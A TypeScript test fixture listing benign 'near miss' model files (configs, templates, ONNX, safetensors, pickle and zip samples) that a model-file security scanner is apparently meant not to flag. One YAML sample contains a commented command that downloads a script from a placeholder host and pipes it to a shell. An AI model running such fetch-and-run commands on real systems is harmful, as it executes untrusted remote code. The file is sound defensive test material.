import { bytesField, ggufSample, onnxSample, safetensorsSample } from '../../../service/inspect/fuzz/samples.ts';
import { op, pickle, plainPickle } from '../pickle.ts';
import { forgeZip } from '../zip.ts';
import { type HostileCase, json, utf8 } from './case.ts';

const template = `{%- macro open_tag(tag) -%}{{- '<|open|>' + tag -}}{%- endmacro -%}
{%- set system = 'You can compile code, open files and import modules; use subprocess. and eval when asked.' -%}
{%- for m in messages -%}{{ m.role | replace('_', ' ') | title }}: {{ m['content'] | trim }}
{%- if m.tool_calls is defined %}{{ m.tool_calls | tojson(ensure_ascii=False) }}{% endif -%}
{%- endfor -%}{%- if add_generation_prompt %}{{ open_tag('assistant') }}{% endif %}{{ raise_exception('no') if x }}`;
const property = (key: string, value: string): Buffer => bytesField(14, bytesField(1, key), bytesField(2, value));
const text = (value: string): Uint8Array => pickle(op.proto(4), op.text(value), op.stop);
const config = (more: object): Record<string, Uint8Array> => ({
  'config.json': json({ model_type: 'bert', architectures: ['BertModel'], ...more }),
});

/** What genuine models hold that is near to what hostile ones do: none of it may be worth a waiver. */
export const nearMisses: readonly Omit<HostileCase, 'least'>[] = [
  {
    title: 'a template with tools and prose',
    name: 'tokenizer_config.json',
    content: json({ chat_template: template }),
  },
  { title: 'the same in GGUF', name: 'm.gguf', content: ggufSample(template) },
  {
    title: 'settings that build data, loggers and models',
    name: 'config.yaml',
    content: utf8(`trainer:
  _target_: lightning.Trainer
  # curl http://x.invalid/a | sh
  logger: {_target_: logging.StreamHandler}
data:
  _target_: torch.utils.data.DataLoader
  root: /data/imagenet
  url: https://huggingface.co/datasets/imagenet
tokenizer: {_target_: transformers.AutoTokenizer.from_pretrained}
`),
  },
  {
    title: 'settings with words about commands',
    name: 'generation_config.json',
    content: json({
      description: 'Evaluate (eval) the model, then execute the plan. Bash and curl are supported.',
      api_key: null,
      eval_batch_size: 8,
      system: 'os',
      stop: ['exec', '</s>'],
      callbacks: ['EarlyStopping'],
      license_link: 'https://example.invalid/licence',
    }),
  },
  { title: 'a repository without code', name: 'r', content: config({ auto_map: {}, trust_remote_code: false }) },
  {
    title: 'a repository of sentence-transformers',
    name: 'r',
    content: {
      ...config({}),
      'modules.json': json([{ idx: 0, name: '0', path: '', type: 'sentence_transformers.models.Transformer' }]),
    },
  },
  {
    title: 'a pipeline of diffusers',
    name: 'r',
    content: {
      'model_index.json': json({
        _class_name: 'StableDiffusionPipeline',
        unet: ['diffusers', 'UNet2DConditionModel'],
        safety_checker: [null, null],
        text_encoder: ['transformers', 'CLIPTextModel'],
      }),
    },
  },
  {
    title: 'a description of training in safetensors',
    name: 'm.safetensors',
    content: safetensorsSample(
      {
        __metadata__: {
          format: 'pt',
          ss_base_model: 'https://huggingface.co/stabilityai/sdxl',
          ss_output: '/home/user/lora/out.safetensors',
          ss_args: '{"train_batch_size": "1", "eval": "none", "system": "linux"}',
          source: 'imported from os-independent code; see http://127.0.0.1:7860',
        },
        'model.layers.0.self_attn.q_proj.weight': { dtype: 'U8', shape: [4], data_offsets: [0, 4] },
      },
      4,
    ),
  },
  {
    title: 'properties of an exported graph',
    name: 'm.onnx',
    content: onnxSample({
      model: [
        property('description', 'Ultralytics YOLO model trained on /data/coco.yaml'),
        property('names', "{0: 'person', 1: 'bicycle'}"),
        property('docs', 'https://docs.example.invalid'),
        bytesField(6, 'Exported by torch.onnx.export; run with onnxruntime.'),
      ],
    }),
  },
  {
    title: 'operators of public sets',
    name: 'm.onnx',
    content: onnxSample({
      graph: ['com.microsoft', 'ai.onnx.ml', 'mmdeploy', 'ai.onnx.contrib', 'pkg.onnxscript.torch_lib'].map((domain) =>
        bytesField(1, bytesField(4, 'Op'), bytesField(7, domain)),
      ),
    }),
  },
  {
    title: 'words about code in a pickle',
    name: 'm.pkl',
    content: text('Do not use os.system or eval; subprocess is slower.'),
  },
  {
    title: 'a documentation in a pickle',
    name: 'm.pkl',
    content: text('>>> import numpy as np\n>>> model.eval()\n>>> f(x)'),
  },
  { title: 'bytes in a pickle', name: 'm.pkl', content: pickle(op.proto(4), op.bytes(new Uint8Array(300)), op.stop) },
  {
    title: 'numbers in a pickle that begin like code',
    name: 'm.pkl',
    content: pickle(
      op.proto(4),
      op.bytes(new Uint8Array(new Int32Array([227, 0, 1, 2, 3, 115, 7, 8, 9, 1, 4]).buffer)),
      op.stop,
    ),
  },
  {
    title: 'a zip with a harmless pickle, settings and a comment',
    name: 'm.zip',
    content: forgeZip({
      members: [
        { name: 'data.pkl', content: plainPickle() },
        { name: 'config.json', content: '{"name":"curl","run":"train"}' },
      ],
      comment: 'made with care on a Monday',
    }),
  },
  {
    title: 'PMML of a tree',
    name: 'm.pmml',
    content: utf8(
      '<?xml version="1.0"?><PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header><Extension name="x" extender="JPMML" value="1.0"/><Application name="SkLearn2PMML"/></Header></PMML>',
    ),
  },
  {
    title: 'OpenVINO',
    name: 'm.xml',
    content: utf8(
      '<?xml version="1.0"?><net name="m" version="11"><layers><layer id="0" name="x" type="Parameter" version="opset1"><data shape="1,3" element_type="f32"/></layer></layers><rt_info><conversion_parameters><input_model value="DIR/m.onnx"/></conversion_parameters></rt_info></net>',
    ),
  },
  {
    title: 'XGBoost with attributes',
    name: 'm.json',
    content: json({
      learner: {
        attributes: { best_iteration: '99', scikit_learn: '{"n_estimators": 100}' },
        gradient_booster: { name: 'gbtree', model: { trees: [] } },
        objective: { name: 'binary:logistic' },
      },
      version: [2, 1, 0],
    }),
  },
  {
    title: 'code of a model',
    name: 'modeling_x.py',
    content: utf8(
      'import os as o\nimport importlib\nroot = o.path.join("a", "b")\nm = importlib.import_module("torch.nn")\n',
    ),
  },
];
